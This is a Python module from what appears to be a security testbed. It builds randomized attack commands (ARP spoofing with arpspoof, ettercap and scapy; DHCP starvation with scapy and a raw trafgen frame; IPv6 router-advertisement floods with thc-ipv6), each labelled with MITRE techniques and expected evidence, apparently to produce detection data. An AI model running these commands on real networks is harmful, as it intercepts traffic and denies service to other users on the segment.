"""Attacks on the own segment: forged ARP, DHCP and router advertisements. Their tools write frames, so evidence names
them by hardware address."""

from testbed.attacks.material import maybe, program, segment, words
from testbed.catalogue import Assault, Evidence, attack

SPOOFING = "T1557.002"
EXHAUSTION = "T1499"
BOX = ("intruder",)


def pair(c) -> tuple[str, str]:
    """Two neighbours to stand between; one of them may be the segment's router."""
    near = [
        host.address
        for host in c.network.hosts.values()
        if host.segment == c.host.segment and host is not c.host and host.role in ("client", "server")
    ]
    victim = c.random.choice(near)
    router = str(next(segment(c).hosts()))
    return victim, c.random.choice([router, router] + [address for address in near if address != victim])


def own_frames(c) -> tuple[Evidence, ...]:
    return (Evidence("arp", (c.host.mac,)),)


@attack("arp_spoof", technique=SPOOFING, tool="arpspoof", origins=BOX, packages=("dsniff",), seconds=35)
def arpspoof(c):
    victim, peer = pair(c)
    return Assault(
        words(
            f"timeout -s INT -k 8 {c.between(8, 20)} arpspoof -i",
            c.host.device,
            maybe(c, 0.6, "-r"),
            f"-c {c.choose('own', 'host', 'both')} -t {victim} {peer}",
        ),
        evidence=own_frames(c),
    )


@attack("arp_spoof", technique=SPOOFING, tool="ettercap", origins=BOX, packages=("ettercap-text-only",), seconds=35)
def ettercap(c):
    victim, peer = pair(c)
    return Assault(
        f"timeout -s INT -k 8 {c.between(10, 20)} ettercap -T -q -i {c.host.device} -M"
        f" arp:{c.choose('remote', 'oneway', 'remote')} /{victim}// /{peer}//",
        evidence=own_frames(c),
    )


@attack("arp_spoof", technique=SPOOFING, tool="scapy", origins=BOX, packages=("python3-scapy",), seconds=35)
def forged_arp(c):
    victim, peer = pair(c)
    return Assault(
        program(
            "forge.py",
            "arp",
            "--interface",
            c.host.device,
            "--victim",
            victim,
            "--peer",
            peer,
            "--count",
            c.between(6, 40),
            "--pause",
            c.between(0.2, 2.0),
            c.choose("--both", ""),
            c.choose("--request", ""),
        ),
        evidence=own_frames(c),
    )


@attack(
    "dhcp_starvation",
    technique=EXHAUSTION,
    tool="scapy",
    origins=BOX,
    needs=("dhcp",),
    packages=("python3-scapy",),
    seconds=30,
)
def forged_dhcp(c):
    return Assault(
        program(
            "forge.py",
            "dhcp",
            "--interface",
            c.host.device,
            "--count",
            c.between(15, 50),
            "--pause",
            c.between(0.03, 0.4),
            "--seed",
            c.between(1, 10**6),
            "--vendor",
            c.choose("00:0c:29", "08:00:27", "52:54:00", "de:ad:be"),
        ),
        evidence=(Evidence("dhcp"),),
    )


@attack(
    "dhcp_starvation",
    technique=EXHAUSTION,
    tool="trafgen",
    origins=BOX,
    needs=("dhcp",),
    packages=("netsniff-ng",),
    seconds=25,
)
def trafgen_dhcp(c):
    # Bytes 14 to 33 are the IPv4 header; discoveries of clients with random hardware addresses.
    client = f"{c.choose('0x00, 0x0c, 0x29', '0x02, 0x42, 0xac', '0x52, 0x54, 0x00')}, drnd(3)"
    packet = (
        f"{{ fill(0xff, 6), {client}, 0x08, 0x00, 0x45, 0x10, c16(272), drnd(2), 0x00, 0x00, {c.between(16, 128)}, 17,"
        " csumip(14, 33), fill(0x00, 4), fill(0xff, 4), c16(68), c16(67), c16(252), 0x00, 0x00,"
        f" 0x01, 0x01, 0x06, 0x00, drnd(4), 0x00, 0x00, 0x80, 0x00, fill(0x00, 16), {client}, fill(0x00, 202),"
        " 0x63, 0x82, 0x53, 0x63, 0x35, 0x01, 0x01, 0xff }"
    )
    config = c.write("discover.cfg", packet + "\n")
    return Assault(
        f"trafgen -P 1 -q -n {c.between(60, 250)} -t {c.between(20, 90)}ms -o {c.host.device} -c {config}",
        evidence=(Evidence("dhcp"),),
    )


def advertisements(c) -> tuple[Evidence, ...]:
    return (Evidence("icmp6", ports=(134,)),)


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="scapy", origins=BOX, packages=("python3-scapy",), seconds=30)
def forged_routers(c):
    return Assault(
        program(
            "forge.py",
            "router",
            "--interface",
            c.host.device,
            "--count",
            c.between(40, 200),
            "--pause",
            c.between(0.02, 0.2),
            "--seed",
            c.between(1, 10**6),
            "--vendor",
            c.choose("00:0c:29", "08:00:27", "52:54:00"),
        ),
        evidence=advertisements(c),
    )


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="fake_router26", origins=BOX, packages=("thc-ipv6",), seconds=30)
def fake_router(c):
    prefix = f"2001:db8:{c.between(1, 9999)}::/64"
    return Assault(
        f"timeout -s INT {c.between(6, 18)} atk6-fake_router26 -A {prefix} -i {c.between(1, 3)}"
        f" -p {c.choose('low', 'medium', 'high')} {c.host.device}",
        evidence=advertisements(c),
    )


@attack("ipv6_ra_flood", technique=EXHAUSTION, tool="fake_router6", origins=BOX, packages=("thc-ipv6",), seconds=40)
def fake_old_router(c):
    prefix = f"2001:db8:{c.between(1, 9999):x}::/64"
    return Assault(
        f"for router in $(seq {c.between(1, 4)}); do timeout -s INT {c.between(11, 32)} atk6-fake_router6"
        f" {c.host.device} {prefix} {c.choose('', '1280', '1500')} & sleep {c.between(0.1, 2.0)}; done; wait",
        evidence=advertisements(c),
    )
